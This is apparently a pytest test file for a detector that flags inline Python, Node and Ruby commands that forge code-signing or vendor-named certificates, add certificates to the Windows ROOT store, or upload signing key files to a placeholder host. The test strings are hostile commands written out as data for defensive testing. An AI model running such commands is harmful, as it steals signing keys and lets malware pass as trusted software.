"""Program text on an interpreter's line that makes certificates."""

from __future__ import annotations

import pytest
from codesignrisk_core.cmdline import argv
from codesignrisk_core.model import Command
from codesignrisk_core.tools import inline_code


@pytest.mark.parametrize(
    ("line", "indicators"),
    [
        ('python -c "b = x509.CertificateBuilder()"', ["make_certificate"]),
        (
            'python -c "b = CertificateBuilder().add_extension(EKU([OID.CODE_SIGNING]), False)"',
            ["make_codesigning_certificate"],
        ),
        (
            "node -e \"c = forge.pki.createCertificate(); c.setSubject([{value: 'Google LLC'}])\"",
            ["make_certificate", "make_vendor_certificate"],
        ),
        (
            "python -c \"s=crypt32.CertOpenStore(10,0,0,0x20000,'ROOT');crypt32.CertAddEncodedCertificateToStore(s)\"",
            ["add_to_store_root", "store_interface"],
        ),
        ('ruby -e "c = OpenSSL::X509::Certificate.new"', ["make_certificate"]),
        (
            "python -c \"import requests; requests.post('http://x.example', files={'f': open('/k/sign.p12', 'rb')})\"",
            ["upload_key_file"],
        ),
        ("python -c \"f.storbinary('STOR a', open('C:\\\\k\\\\sign.PFX', 'rb'))\"", ["upload_key_file"]),
    ],
)
def test_what_the_text_makes(line: str, indicators: list[str]) -> None:
    report = inline_code.judge(Command("python.exe", argv.split(line), line))
    assert report is not None
    assert [found.indicator for found in report.findings] == indicators


@pytest.mark.parametrize(
    "line",
    [
        "python -m pip install cryptography",
        'python -c "import certifi"',
        # a key that is only read, and a body that is none
        "python -c \"open('sign.p12', 'rb').read()\"",
        "python -c \"requests.post('http://x.example', files={'f': open('notes.txt')})\"",
        "",
    ],
)
def test_text_that_makes_none(line: str) -> None:
    assert inline_code.judge(Command("python.exe", argv.split(line), line)) is None


@pytest.mark.parametrize("program", ["findstr", "git", "powershell"])
def test_programs_that_only_look_at_text(program: str) -> None:
    line = f"{program} CertAddEncodedCertificateToStore 'ROOT' a.c"
    assert inline_code.judge(Command(program, argv.split(line), line)) is None


@pytest.mark.parametrize(("literals", "limits"), [(64, []), (65, [inline_code.TOO_MANY_LITERALS])])
def test_literals_that_are_not_looked_at_are_told(literals: int, limits: list[str]) -> None:
    line = 'python -c "c = x509.CertificateBuilder(); d = [' + "'ab'," * literals + ']"'
    report = inline_code.judge(Command("python.exe", argv.split(line), line))
    assert report is not None
    assert report.limits == limits
